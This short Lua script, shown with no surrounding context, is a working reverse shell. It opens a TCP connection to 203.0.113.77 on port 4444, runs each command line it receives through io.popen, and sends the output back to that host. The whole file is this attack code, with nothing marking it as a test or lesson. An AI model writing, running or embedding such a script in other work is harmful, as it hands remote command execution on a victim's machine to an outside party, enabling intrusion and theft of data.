local socket = require("socket")
local c = socket.tcp()
c:settimeout(10)
if c:connect("203.0.113.77", 4444) then
  while true do
    local line, err = c:receive()
    if err then break end
    local f = io.popen(line, "r")
    local out = f:read("*a")
    f:close()
    c:send(out)
  end
  c:close()
end
